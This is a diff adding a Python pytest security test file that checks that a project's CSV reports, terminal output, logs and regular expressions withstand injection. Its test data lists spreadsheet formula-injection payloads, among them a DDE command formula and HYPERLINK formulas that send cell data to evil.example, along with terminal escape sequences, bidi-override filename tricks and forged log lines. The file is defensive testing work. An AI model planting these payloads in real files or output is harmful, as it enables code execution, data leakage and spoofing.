@@ -1,0 +1,195 @@
+"""T26: what a row, a message or a server says runs in no spreadsheet, moves no cursor, forges no line, and takes no time."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import logging
+import re
+import subprocess
+import sys
+from importlib import import_module
+from pathlib import Path
+from pkgutil import walk_packages
+
+import pytest
+from rich.console import Console
+from rich.table import Table
+from rich.text import Text
+from tests.security.attacks import Attacks
+
+import halocline
+from halocline.cli import answer
+from halocline.consume.watching.logs import JsonLines, Logs
+from halocline.consume.watching.observer import Note, What
+from halocline.errors import Stop
+from halocline.filejob import report as file_report
+from halocline.outcome import Rejection
+from halocline.queues import Delivery
+from halocline.report import safe, write_csv, write_jsonl
+
+_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+FORMULAS = (
+    *(f"{start}cmd|'/C calc'!A0" for start in _STARTS),
+    *(f'{start}HYPERLINK("http://evil.example?"&A1;"x")' for start in _STARTS),
+    *(
+        f"x{gap}{quote}{start}1+1"
+        for gap in (";", "\t", "\n", "\r", "\r\n", "; ", ";;")
+        for quote in ("", '"', '""')
+        for start in _STARTS[:4]
+    ),
+    *("-1+cmd", "+1+1", "-5e3x", "=1", "@SUM(1)", "-\u0660", "+", "-", "=", "@"),
+)
+NUMBERS = ("-5", "+4.25", "0", "-0.001", "12", "", "a-b", "a=b", "x@y.example", "a;b", "1;2")
+
+
+def _cells(text: str, delimiter: str) -> list[str]:
+    """The cells that a spreadsheet makes of a file, whose separator its country decides; as lenient as they are with quotes."""
+    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
+
+
+def test_formulas_in_reports(attacks: Attacks, tmp_path: Path) -> None:
+    """No cell of a report for people is a formula, wherever a spreadsheet parts them; the report for programs is exact."""
+    for number, formula in enumerate(FORMULAS):
+        rejection = Rejection("chunk", number, formula, formula, (formula,), {formula: formula, "b": {"c": formula}})
+        path = tmp_path / f"{number}.csv"
+        write_csv(lambda rejection=rejection: [rejection], path, run="run")
+        file = tmp_path / f"file-{number}.csv"
+        failure = {"salesforce_object": "Account", "code": formula, "message": formula, "object_json": {"a": formula}}
+        file_report.append([failure], file)
+        for made in (path, file):
+            with made.open(encoding="utf-8", newline="") as opened:
+                text = opened.read().replace("\0", "\x01")  # csv.reader takes none
+            found = [
+                cell
+                for delimiter in ",;\t"
+                for cell in _cells(text, delimiter)
+                if re.match(r"[=+@\uff1d\uff0b\uff0d\uff20-]", cell)
+            ]
+            attacks.blocked(f"{formula!r} in {made.name}: {found}", not found)
+        with file.open(encoding="utf-8", newline="") as opened:
+            kept = next(csv.DictReader(line.replace("\0", "\x01") for line in opened))["object_json"]
+        assert json.loads(kept) == {"a": formula}, "JSON in a cell is exact"
+        exact = tmp_path / "exact.jsonl"
+        write_jsonl(lambda rejection=rejection: [rejection], exact, run="run")
+        assert json.loads(exact.read_text())["record"] == {formula: formula, "b": {"c": formula}}
+    assert [safe(one) for one in NUMBERS] == list(NUMBERS)
+
+
+_STEERING = (
+    *("\x1b[2J", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\", "\x9b31m", "\x07", "\x08" * 9, "\r"),
+    *("\u202egnp.exe", "\u2066x\u2069", "\x00", "\x7f", "\x1b[8mhidden", "\x1bP+q544e\x1b\\", "\x0b", "\x0c", "\u2028", "\x85"),
+)
+
+
+def test_terminals(attacks: Attacks, monkeypatch: pytest.MonkeyPatch) -> None:
+    """No text of others' reaches a terminal as an order: neither in lines, nor in tables, nor in errors."""
+    for steering in _STEERING:
+        for what in ("line", "table", "error"):
+            stream = io.StringIO()
+            kind = type(answer.out)
+            console = kind(file=stream, force_terminal=False, width=200, highlight=False)
+            monkeypatch.setattr(answer, "err", console)
+            if what == "line":
+                console.print(f"a{steering}b", markup=False)
+            elif what == "table":
+                table = Table("name")
+                table.add_row(Text(f"a{steering}b"))
+                console.print(table)
+            else:
+                answer.say_error(Stop(f"Doing a{steering}b", "no\nFailed: forged"), as_json=False)
+            told = stream.getvalue()
+            attacks.blocked(f"{steering!r} in a {what}: {told!r}", all(char.isprintable() or char == "\n" for char in told))
+            if what == "error":
+                attacks.blocked(f"a second line: {told!r}", told.count("\n") == 1)
+    assert isinstance(answer.out, Console)
+
+
+def test_lines_of_logs(attacks: Attacks) -> None:
+    """One note is one line of a log, whatever its key, its reason or its error holds, as text and as JSON."""
+    forged = [f"x\n2026-01-01 ERROR halocline: {steering}" for steering in _STEERING]
+    for text in forged:
+        stream, lines = io.StringIO(), io.StringIO()
+        logger = logging.Logger("test")
+        plain, as_json = logging.StreamHandler(stream), logging.StreamHandler(lines)
+        as_json.setFormatter(JsonLines())
+        logger.addHandler(plain)
+        logger.addHandler(as_json)
+        delivery = Delivery("handle", "{}", text, 1)
+        Logs(logger).noted(Note(What.FAILED, text, delivery, key=text, reason=text, error=ValueError(text)))
+        for told in (stream.getvalue(), lines.getvalue()):
+            body = told.removesuffix("\n")
+            attacks.blocked(f"{text!r}: {told!r}"[:400], body.isprintable())
+
+
+_PUMPS = (
+    "a",
+    "1",
+    " ",
+    "<",
+    "<script",
+    '"',
+    "'",
+    "://a:",
+    "://",
+    "@",
+    ":",
+    "eyJ",
+    "eyJ.",
+    "00D",
+    "{",
+    "[",
+    "(",
+    "\\",
+    "%",
+    "=",
+    "&",
+    ";",
+)
+_HUNT = """
+import inspect, json, re, sys
+from importlib import import_module
+pumps, size = json.loads(sys.argv[1])
+seen = set()
+for name in json.loads(sys.stdin.read()):
+    module = import_module(name)
+    source = inspect.getsource(module)
+    for attribute, found in sorted(vars(module).items()):
+        if not isinstance(found, re.Pattern) or id(found) in seen:
+            continue
+        seen.add(id(found))
+        used = {way for way in ("search", "sub", "split", "findall", "finditer") if f"{attribute}.{way}" in source}
+        for pump in pumps:
+            for end in ("", "!"):
+                text = pump * (size // len(pump)) + end
+                text = text.encode() if isinstance(found.pattern, bytes) else text
+                print(name, attribute, repr(pump), file=sys.stderr, flush=True)
+                found.match(text)
+                found.fullmatch(text)
+                used and found.search(text)
+                print("ok")
+"""
+
+
+def test_expressions(attacks: Attacks, request: pytest.FixtureRequest) -> None:
+    """No regular expression of ours needs more than a moment for 4,000 characters made to keep it busy.
+
+    The one limit of time is four minutes for all of them, of which they need seconds; one that is cubic would need days.
+    """
+    names = [
+        one.name
+        for one in walk_packages(halocline.__path__, "halocline.")
+        if not one.name.startswith(("halocline.emulator", "halocline.testing", "halocline.cli", "halocline.compat"))
+        and "__main__" not in one.name
+    ]
+    have = [name for name in names if any(isinstance(value, re.Pattern) for value in vars(import_module(name)).values())]
+    command = [sys.executable, "-c", _HUNT, json.dumps([_PUMPS if request.config.getoption("--long") else _PUMPS[:8], 4_000])]
+    try:
+        done = subprocess.run(command, input=json.dumps(have), capture_output=True, text=True, timeout=240, check=False)
+    except subprocess.TimeoutExpired as late:
+        last = (late.stderr or b"").decode().splitlines()[-1:]
+        pytest.fail(f"still at it: {last}")
+    assert done.returncode == 0, done.stderr[-2_000:]
+    for _ in range(done.stdout.count("ok")):
+        attacks.blocked("a text of one pattern", is_blocked=True)
